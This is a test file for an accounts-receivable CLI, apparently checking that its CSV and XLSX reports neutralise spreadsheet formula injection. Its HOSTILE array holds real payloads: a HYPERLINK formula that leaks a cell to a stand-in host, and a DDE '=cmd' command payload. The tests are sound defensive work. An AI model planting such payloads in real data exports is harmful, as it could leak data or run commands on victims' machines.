import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { arInProcess, tempDir, writeFiles } from '../helpers/run.ts';
import { inspectWorkbook } from '../helpers/sheets.ts';

/**
 * A ledger written by someone who wants the accountant's spreadsheet to run their formula: customer
 * ids, names and invoice numbers that start with `=`, `+`, `-`, `@`, tab or CR. Every CSV and XLSX
 * that `ar` writes is read back as a spreadsheet program would read it.
 */

const HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=2+2', "=cmd|' /C calc'!A0"] as const;
const FORMULA_START = /^[=+\-@\t\r]/;
/** The import trims a cell (a leading tab or CR is gone before any output: `csvField` is tested on them in test/render). */
const kept = (s: string) => s.trim();

const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
// Ids, names and invoice numbers are the payloads themselves.
const INVOICES = [
  'N° facture;Code client;Client;Date facture;Échéance;Montant TTC',
  ...HOSTILE.map((h, i) => [q(`${h}#${i}`), q(h), q(h), '01/08/2026', '01/09/2026', `${100 + i},00`].join(';')),
  // A credit note larger than its invoice: negative amounts in the CSV are numbers, not formulas to neutralise.
  [q('-AV1'), q(HOSTILE[0]), q(HOSTILE[0]), '05/08/2026', '05/08/2026', '-112,50'].join(';'),
].join('\r\n');
const CUSTOMERS = ['Code client;Raison sociale;E-mail', ...HOSTILE.map((h, i) => [q(h), q(h), `c${i}@x.example`].join(';'))].join('\r\n');
const PAYMENTS = ['Date règlement;Code client;Montant;Réf. facture', `10/09/2026;${q(HOSTILE[1])};10,00;${q(`${HOSTILE[1]}#1`)}`].join('\r\n');

let dir: string;
beforeAll(() => {
  dir = tempDir('ar-formula-');
  writeFiles(dir, { 'factures.csv': INVOICES, 'clients.csv': CUSTOMERS, 'reglements.csv': PAYMENTS });
});
const run = (cmd: string, args: string[]) => arInProcess([cmd, 'factures.csv', '--payments', 'reglements.csv', '--customers', 'clients.csv', '--as-of', '2026-10-31', ...args], { cwd: dir });

/** Every text field of a CSV is safe to open in a spreadsheet; the payload is there behind the apostrophe. */
function expectNeutralCsv(csv: string, textColumns: readonly string[], numberColumns: readonly string[]) {
  const rows = parse(csv, { columns: true, bom: true, relax_quotes: false }) as Record<string, string>[];
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) {
    for (const c of textColumns) expect(row[c]!, `${c} = ${JSON.stringify(row[c])}`).not.toMatch(FORMULA_START);
    for (const c of numberColumns) if (row[c] !== '') expect(row[c]!, c).toMatch(/^-?\d+(\.\d+)?$/);
  }
  return rows;
}

describe('formula injection: CSV', () => {
  it('ar aging --format csv prefixes every hostile id and name with an apostrophe, and keeps negative amounts as numbers', async () => {
    const r = await run('aging', ['--format', 'csv', '--csv', 'rfc4180']);
    expect(r.code).toBe(0);
    const rows = expectNeutralCsv(r.stdout, ['customer_id', 'customer_name', 'currency'], ['not_due', '1-30', '31-60', '61-90', '91+', 'unapplied', 'total', 'disputed', 'written_off']);
    const ids = rows.map((x) => x.customer_id!.replace(/^'/, ''));
    const names = rows.map((x) => x.customer_name!.replace(/^'/, ''));
    for (const h of HOSTILE) {
      expect(ids).toContain(kept(h));
      expect(names).toContain(kept(h));
    }
    // C0 owes 100.00 and has a 112.50 credit note: a net credit, written as a plain negative number.
    const c0 = rows.find((x) => x.customer_id === `'${HOSTILE[0]}`)!;
    expect(c0.total).toBe('-12.50');
    expect(c0.unapplied).toBe('-12.50');
  });

  it('ar customers --format csv does the same for ids, names, grades and flags', async () => {
    const r = await run('customers', ['--format', 'csv', '--csv', 'rfc4180']);
    expect(r.code).toBe(0);
    const rows = expectNeutralCsv(r.stdout, ['id', 'name', 'currency', 'last_contact', 'grade', 'flags'], ['open', 'overdue', 'overdue_share', 'credit_limit']);
    for (const h of HOSTILE) expect(rows.map((x) => x.id!.replace(/^'/, ''))).toContain(kept(h));
    expect(rows.find((x) => x.id === `'${HOSTILE[0]}`)!.open).toBe('-12.50');
  });

  it('ar impact --format csv prefixes a hostile invoice number, and ar dso writes its figures as plain numbers', async () => {
    const ledger = ['--invoices', 'factures.csv', '--payments', 'reglements.csv', '--as-of', '2026-10-31', '--margin', '5%', '--revenue', '100000', '--format', 'csv', '--csv', 'rfc4180'];
    const impact = await arInProcess(['impact', `${HOSTILE[1]}#1`, ...ledger], { cwd: dir });
    expect(impact.code).toBe(0);
    const [row] = expectNeutralCsv(impact.stdout, ['kind', 'bucket', 'currency', 'invoice', 'revenue_source', 'revenue_vat_assumed'], ['unpaid', 'loss', 'revenue', 'margin_after', 'extra_revenue']);
    expect(row!.invoice).toBe(`'${HOSTILE[1]}#1`);
    expect(row!.unpaid).toBe('91.00');
    const portfolio = await arInProcess(['impact', '--portfolio', ...ledger], { cwd: dir });
    expectNeutralCsv(portfolio.stdout, ['kind', 'bucket', 'currency'], ['open', 'loss_rate', 'expected_loss', 'loss']);
    const dso = await run('dso', ['--format', 'csv', '--csv', 'rfc4180']);
    expect(dso.code).toBe(0);
    expectNeutralCsv(dso.stdout, ['kind', 'currency', 'date'], ['ar', 'not_due', 'sales', 'dso', 'countback', 'cei']);
  });

  it('ar log, which has no CSV, refuses --format csv as a usage error rather than write an unprotected one', async () => {
    for (const args of [['log']]) {
      const r = await arInProcess([...args, '--format', 'csv'], { cwd: dir });
      expect({ args, code: r.code, stdout: r.stdout }).toEqual({ args, code: 1, stdout: '' });
      expect(r.stderr.split('\n')[0]).toMatch(/csv/);
    }
  });
});

describe('formula injection: XLSX', () => {
  it('the --xlsx report writes hostile ids, names and invoice numbers as string cells on every sheet, unchanged', async () => {
    const out = join(dir, 'balance.xlsx');
    const r = await run('aging', ['--xlsx', out]);
    expect(r.code).toBe(0);
    const { texts, formulas, sheets } = await inspectWorkbook(out, HOSTILE);
    expect(sheets.length).toBeGreaterThanOrEqual(6); // summary, customers, open items, DSO, risk, provision…
    expect(formulas.length).toBeGreaterThan(0); // the report's own totals are still formulas
    HOSTILE.forEach((h, i) => {
      expect(texts, `id ${JSON.stringify(h)}`).toContain(kept(h));
      // Invoice #0 is settled by the credit note: not an open item.
      if (i > 0) expect(texts, `invoice ${JSON.stringify(h)}`).toContain(kept(`${h}#${i}`));
    });
  });

  it('the report stays readable when a name holds characters XML cannot carry', async () => {
    const d = tempDir('ar-formula-xml-');
    writeFiles(d, {
      'f.csv': ['Invoice;Customer;Name;Date;Due;Amount', 'F1;C1;"Bad\uFFFEname\uFFFF";2026-08-01;2026-09-01;10.00', 'F2;C2;"a\u0001b\u000bc";2026-08-01;2026-09-01;10.00'].join('\r\n'),
    });
    const r = await arInProcess(['aging', 'f.csv', '--as-of', '2026-10-31', '--xlsx', 'r.xlsx'], { cwd: d });
    expect(r.code).toBe(0);
    const { texts } = await inspectWorkbook(join(d, 'r.xlsx'), []);
    expect(texts).toContain('Bad\uFFFDname\uFFFD');
    expect(texts).toContain('a\uFFFDb\uFFFDc');
  });
});
